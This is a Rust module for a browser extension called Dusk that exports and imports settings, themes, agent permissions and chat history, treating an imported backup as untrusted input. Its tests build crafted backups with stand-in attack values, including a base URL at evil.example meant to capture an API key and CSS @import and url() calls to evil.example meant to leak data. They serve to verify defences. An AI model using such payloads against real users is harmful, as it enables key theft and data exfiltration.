//! Export and import of what Dusk keeps in chrome.storage.local: settings, per-site dark-mode
//! choices and themes, agent settings, History. API keys are never exported; an import keeps the
//! keys already stored, and adds to History only what it lacks (`history::restore`). A backup file
//! is untrusted input: it can't point a stored key at another server, bring CSS the dark-mode
//! sanitiser would refuse, or grant the agent `allow` on a site.

use crate::browser_agent::mode::{AgentSettings, STORAGE_KEY as AGENT_KEY};
use crate::browser_agent::safety::SitePolicy;
use crate::dark::adjust::{Adjustments, GLOBAL_KEY as ADJUST_KEY, SITES_KEY as ADJUST_SITES_KEY};
use crate::dark_agent::sanitize::sanitize;
use crate::dark_agent::versions::SiteThemes;
use crate::history::{restore::restore, INDEX_KEY as HISTORY_INDEX_KEY, LIMITS as HISTORY_LIMITS};
use crate::settings::{Settings, STORAGE_KEY as SETTINGS_KEY};
use serde_json::{json, Map, Value};

pub const FORMAT: &str = "dusk-backup";

/// Keys a backup may carry: exact names, and per-site prefixes.
const KEYS: &[&str] = &[SETTINGS_KEY, "dark_sites", "dark_auto", "dark_mode", "dark_agent", "agent_settings", ADJUST_KEY, ADJUST_SITES_KEY, HISTORY_INDEX_KEY];
const PREFIXES: &[&str] = &["dark_theme:", "dark_history:", "custom:", "custom_css:", HISTORY_PREFIX];
/// A kept item's key (`history::item_key`); items and the index are merged, never written as sent.
const HISTORY_PREFIX: &str = "history:";

fn kept(key: &str) -> bool {
    KEYS.contains(&key) || PREFIXES.iter().any(|p| key.starts_with(p))
}

/// The backup file's JSON, from everything in chrome.storage.local.
pub fn export(stored: &Map<String, Value>) -> Value {
    // Inserted one by one: a collect into the map sorts first, with a sort compiled for each caller.
    let mut data = Map::new();
    for (k, v) in stored.iter().filter(|(k, _)| kept(k)) {
        data.insert(k.clone(), v.clone());
    }
    if let Some(settings) = data.get(SETTINGS_KEY).cloned() {
        let mut s = Settings::from_stored(Some(settings));
        s.providers.iter_mut().for_each(|p| p.api_key.clear());
        data.insert(SETTINGS_KEY.into(), serde_json::to_value(s).unwrap_or(Value::Null));
    }
    json!({ "format": FORMAT, "version": crate::VERSION, "data": data })
}

/// What to write for `backup`: its known keys, made safe (see the module's note).
pub fn import(stored: &Map<String, Value>, backup: &Value) -> Result<Map<String, Value>, String> {
    if backup.get("format").and_then(Value::as_str) != Some(FORMAT) {
        return Err("this file is not a Dusk backup".into());
    }
    let data = backup.get("data").and_then(Value::as_object).ok_or("the backup has no data")?;
    let mut out = Map::new();
    let history = restore(stored, data, &HISTORY_LIMITS);
    if !history.items.is_empty() {
        out.extend(history.items);
        out.insert(HISTORY_INDEX_KEY.into(), serde_json::to_value(history.index).map_err(|e| e.to_string())?);
    }
    for (key, value) in data.iter().filter(|(k, _)| kept(k) && *k != HISTORY_INDEX_KEY && !k.starts_with(HISTORY_PREFIX)) {
        let value = match key.as_str() {
            SETTINGS_KEY => settings(stored, value)?,
            AGENT_KEY => agent_settings(value),
            // Out-of-range values come back inside the controls' ranges.
            ADJUST_KEY => serde_json::to_value(Adjustments::from_stored(Some(value.clone()), None).global).unwrap_or(Value::Null),
            ADJUST_SITES_KEY => serde_json::to_value(Adjustments::from_stored(None, Some(value.clone())).sites).unwrap_or(Value::Null),
            k if k.starts_with("dark_theme:") => match value.as_str().map(sanitize) {
                Some(Ok(clean)) => Value::String(clean.css),
                _ => continue,
            },
            k if k.starts_with("dark_history:") => dark_history(value),
            k if k.starts_with("custom_css:") => match value.as_str().map(sanitize) {
                Some(Ok(clean)) => Value::String(clean.css),
                _ => continue,
            },
            k if k.starts_with("custom:") => match custom_record(k, value) {
                Some(v) => v,
                None => continue,
            },
            _ => value.clone(),
        };
        out.insert(key.clone(), value);
    }
    Ok(out)
}

/// A site's customisation with every version's CSS through the sanitiser; its JS comes back as
/// the user saved it (it runs only in the user-script world, where the user allowed that).
fn custom_record(key: &str, value: &Value) -> Option<Value> {
    let host = crate::customize::site::host_of_key(key)?;
    let mut record = crate::customize::SiteCustom::from_stored(host, Some(value.clone()));
    for v in &mut record.versions {
        v.css = sanitize(&v.css).map(|c| c.css).unwrap_or_default();
    }
    (!record.versions.is_empty()).then(|| serde_json::to_value(record).ok()).flatten()
}

/// The file's providers, each with the stored key only where it goes to the same server; stored
/// providers the file doesn't mention stay as they are.
fn settings(stored: &Map<String, Value>, incoming: &Value) -> Result<Value, String> {
    let mut s: Settings = crate::protocol::from_value(incoming.clone()).map_err(|e| format!("the backup's settings are malformed: {e}"))?;
    let current = Settings::from_stored(stored.get(SETTINGS_KEY).cloned());
    for p in &mut s.providers {
        let same_server = current.providers.iter().find(|c| c.kind == p.kind && c.effective_base_url() == p.effective_base_url());
        p.api_key = same_server.map(|c| c.api_key.clone()).unwrap_or_default();
    }
    for c in &current.providers {
        if !s.providers.iter().any(|p| p.kind == c.kind) {
            s.providers.push(c.clone());
        }
    }
    serde_json::to_value(s).map_err(|e| e.to_string())
}

/// A site's `allow` is only ever set by hand in options: an import asks instead.
fn agent_settings(incoming: &Value) -> Value {
    let mut a = AgentSettings::from_stored(Some(incoming.clone()));
    a.sites.values_mut().filter(|p| **p == SitePolicy::Allow).for_each(|p| *p = SitePolicy::AlwaysAsk);
    serde_json::to_value(a).unwrap_or(Value::Null)
}

/// Each stored version's CSS goes through the sanitiser; versions it refuses are dropped.
fn dark_history(incoming: &Value) -> Value {
    let mut h: SiteThemes = crate::protocol::from_value(incoming.clone()).unwrap_or_default();
    let active = h.active.and_then(|i| h.versions.get(i)).map(|v| v.css.clone());
    h.versions.retain_mut(|v| match sanitize(&v.css) {
        Ok(clean) => {
            v.css = clean.css;
            true
        }
        Err(_) => false,
    });
    h.active = active.and_then(|css| sanitize(&css).ok()).and_then(|clean| h.versions.iter().position(|v| v.css == clean.css));
    serde_json::to_value(h).unwrap_or(Value::Null)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stored() -> Map<String, Value> {
        let settings = json!({"active": 0, "providers": [{"kind": "openai", "api_key": "sk-secret", "model": "gpt-4.1-mini"}]});
        let v = json!({"settings": settings, "dark_sites": {"a.example": true}, "dark_theme:a.example": "body{}", "usage": {"requests": 3}});
        v.as_object().unwrap().clone()
    }

    #[test]
    fn export_drops_keys_and_unknown_data_and_import_keeps_stored_keys() {
        let backup = export(&stored());
        let text = backup.to_string();
        assert!(!text.contains("sk-secret"), "{text}");
        assert!(!text.contains("usage"), "only settings and per-site data");
        assert_eq!(backup["data"]["dark_sites"]["a.example"], true);
        let written = import(&stored(), &backup).unwrap();
        let s = Settings::from_stored(written.get("settings").cloned());
        assert_eq!(s.providers[0].api_key, "sk-secret", "the stored key stays");
        assert_eq!(written["dark_theme:a.example"], "body{}");
        let elsewhere = import(&Map::new(), &backup).unwrap();
        assert_eq!(Settings::from_stored(elsewhere.get("settings").cloned()).providers[0].api_key, "", "no key comes from a backup");
        assert!(import(&Map::new(), &json!({"format": "other"})).is_err());
        let mut junk = backup.clone();
        junk["data"]["chat_session"] = json!("x");
        assert!(!import(&Map::new(), &junk).unwrap().contains_key("chat_session"));
    }

    #[test]
    fn a_crafted_file_cant_redirect_a_key_bring_remote_css_or_allow_a_site() {
        let crafted = json!({"format": FORMAT, "data": {
            "settings": {"provider": "openai", "providers": [{"kind": "openai", "base_url": "https://evil.example/v1", "model": "x"}]},
            "dark_theme:a.example": "@import url(https://evil.example/x.css); body { background: url(https://evil.example/leak?) }",
            "dark_history:a.example": {"versions": [{"css": "a { color: red }"}, {"css": "b { background: url(https://evil.example/p) }"}], "active": 1},
            "agent_settings": {"sites": {"bank.example": "allow", "shop.example": "block"}},
        }});
        let mut with_two = stored();
        with_two["settings"]["providers"].as_array_mut().unwrap().push(json!({"kind": "anthropic", "api_key": "sk-ant"}));
        let written = import(&with_two, &crafted).unwrap();
        let s = Settings::from_stored(written.get("settings").cloned());
        let openai = s.providers.iter().find(|p| p.kind == crate::llm::ProviderKind::Openai).unwrap();
        assert_eq!(openai.api_key, "", "the stored key does not follow a new base URL");
        assert_eq!(s.providers.iter().find(|p| p.kind == crate::llm::ProviderKind::Anthropic).unwrap().api_key, "sk-ant", "providers the file omits stay");
        let theme = written["dark_theme:a.example"].as_str().unwrap();
        assert!(!theme.contains("evil.example"), "{theme}");
        let history: SiteThemes = crate::protocol::from_value(written["dark_history:a.example"].clone()).unwrap();
        assert!(history.versions.iter().all(|v| !v.css.contains("evil.example")));
        assert_eq!(written["agent_settings"]["sites"]["bank.example"], "always_ask");
        assert_eq!(written["agent_settings"]["sites"]["shop.example"], "block");
    }

    #[test]
    fn adjustments_round_trip_inside_their_ranges() {
        let mut all = stored();
        all.insert("dark_adjust".into(), json!({"brightness": 120, "contrast": 100, "sepia": 10, "grayscale": 0}));
        all.insert("dark_adjust_sites".into(), json!({"a.example": {"brightness": 80, "contrast": 130, "sepia": 0, "grayscale": 50}}));
        let backup = export(&all);
        assert_eq!(backup["data"]["dark_adjust"]["brightness"], 120);
        let written = import(&Map::new(), &backup).unwrap();
        assert_eq!(written["dark_adjust"], all["dark_adjust"]);
        assert_eq!(written["dark_adjust_sites"], all["dark_adjust_sites"]);
        let mut crafted = backup.clone();
        crafted["data"]["dark_adjust"] = json!({"contrast": 5});
        assert_eq!(import(&Map::new(), &crafted).unwrap()["dark_adjust"]["contrast"], 50, "a file can't take contrast below the control's range");
    }

    #[test]
    fn customisations_round_trip_with_their_css_sanitised() {
        let mut record = crate::customize::SiteCustom::new("a.example");
        record.save(".banner{display:none}", "console.log(1)", "hide", 1.0).unwrap();
        record.versions[0].css.push_str(" @import url(https://evil.example/x.css);");
        let mut all = stored();
        all.insert("custom:a.example".into(), serde_json::to_value(&record).unwrap());
        all.insert("custom_css:a.example".into(), json!(".banner{display:none}"));
        let backup = export(&all);
        let written = import(&Map::new(), &backup).unwrap();
        assert_eq!(written["custom_css:a.example"], ".banner{display:none}");
        let back = crate::customize::SiteCustom::from_stored("a.example", written.get("custom:a.example").cloned());
        assert_eq!((back.css().trim(), back.js().as_str()), (".banner{display:none}", "console.log(1)"));
        let mut crafted = backup.clone();
        crafted["data"]["custom:b.example"] = json!({"host": "c.example", "versions": [{"css": "x{}"}]});
        assert!(!import(&Map::new(), &crafted).unwrap().contains_key("custom:b.example"), "a record must be for its own host");
    }

    #[test]
    fn history_travels_and_an_import_adds_only_what_is_missing() {
        let session = |q: &str| {
            let mut s = crate::chat::ChatSession::default();
            s.entries.push(crate::chat::ChatEntry::User { text: q.into(), tabs: vec![] });
            s
        };
        let (mine, theirs) = (crate::history::Item::chat("c1", &session("Mine"), 1.0), crate::history::Item::chat("c2", &session("Theirs"), 2.0));
        let mut index = crate::history::Index::default();
        index.put(mine.summary.clone(), &HISTORY_LIMITS);
        index.put(theirs.summary.clone(), &HISTORY_LIMITS);
        let mut all = stored();
        all.insert("history:c1".into(), serde_json::to_value(&mine).unwrap());
        all.insert("history:c2".into(), serde_json::to_value(&theirs).unwrap());
        all.insert(HISTORY_INDEX_KEY.into(), serde_json::to_value(&index).unwrap());
        let backup = export(&all);
        assert_eq!(backup["data"]["history:c2"]["summary"]["title"], "Theirs");
        let mut other = stored();
        other.insert("history:c1".into(), serde_json::to_value(&mine).unwrap());
        let mut one = crate::history::Index::default();
        one.put(mine.summary.clone(), &HISTORY_LIMITS);
        other.insert(HISTORY_INDEX_KEY.into(), serde_json::to_value(&one).unwrap());
        let written = import(&other, &backup).unwrap();
        assert!(written.contains_key("history:c2") && !written.contains_key("history:c1"), "{:?}", written.keys());
        let merged: crate::history::Index = crate::protocol::from_value(written[HISTORY_INDEX_KEY].clone()).unwrap();
        assert_eq!(merged.items.iter().map(|s| s.id.as_str()).collect::<Vec<_>>(), ["c2", "c1"]);
        assert!(!import(&all, &backup).unwrap().contains_key(HISTORY_INDEX_KEY), "nothing new: the index is left alone");
    }
}
